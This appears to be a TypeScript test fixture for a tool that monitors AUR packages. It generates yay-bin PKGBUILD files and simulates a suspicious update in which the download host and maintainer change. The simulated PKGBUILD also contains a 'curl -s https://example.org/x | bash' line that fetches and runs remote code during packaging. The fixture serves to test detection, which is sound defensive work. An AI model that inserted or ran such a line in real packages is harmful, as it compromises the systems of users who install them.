import { WatchedSite } from "./watched_site.ts";

export const SRCINFO = (version: string, lines: readonly string[] = []) =>
  [
    "pkgbase = yay-bin",
    "\tpkgdesc = Yet another yogurt",
    `\tpkgver = ${version}`,
    "\tpkgrel = 1",
    "\tarch = x86_64",
    ...lines.map((line) => `\t${line}`),
    "",
    "pkgname = yay-bin",
    "",
  ].join("\n");

export const PKGBUILD = (version: string, host: string, more = "") =>
  `# Maintainer: Jguer <pkgbuilds at jguer.space>
pkgname=yay-bin
pkgver=${version}
pkgrel=1
pkgdesc="Yet another yogurt. Pacman wrapper and AUR helper written in go. Pre-compiled."
arch=('x86_64')
url="https://github.com/Jguer/yay"
license=('GPL-3.0-or-later')
provides=('yay')
conflicts=('yay')
source=("https://${host}/yay/releases/download/v\${pkgver}/yay_\${pkgver}_x86_64.tar.gz")
sha256sums=('f1b3d9a1f3f0d7d8d2c4f5b6a7980123456789abcdef0123456789abcdef0123')

package() {
  _output="\${srcdir}/\${pkgname/-bin/}_\${pkgver}_\${CARCH}"
  install -Dm755 "\${_output}/yay" "\${pkgdir}/usr/bin/yay"
  install -Dm644 "\${_output}/yay.8" "\${pkgdir}/usr/share/man/man8/yay.8"
${more}}
`;

/** The files of a version whose source comes from this host. */
export function files(version: string, host = "github.com/Jguer", more = "") {
  return {
    PKGBUILD: PKGBUILD(version, host, more),
    ".SRCINFO": SRCINFO(version, [`source = https://${host}/yay/releases/download/yay.tar.gz`]),
    "yay.install": `post_install() {\n  echo "yay ${version}"\n}\n`,
  };
}

/** A change that a person must look at: the package was built before. */
export async function changed(): Promise<WatchedSite> {
  const watched = await WatchedSite.start();
  watched.aur.put("yay-bin", { files: files("12.4.1"), lastModified: 1_790_000_000 });
  await watched.add("yay-bin");
  await watched.approveAll();
  watched.aur.push(
    "yay-bin",
    files("12.5.0", "downloads.example.org", "  curl -s https://example.org/x | bash # <b>\n"),
    1_790_100_000,
  );
  watched.aur.edit("yay-bin", { maintainer: "somebody-new" });
  await watched.check();
  return watched;
}
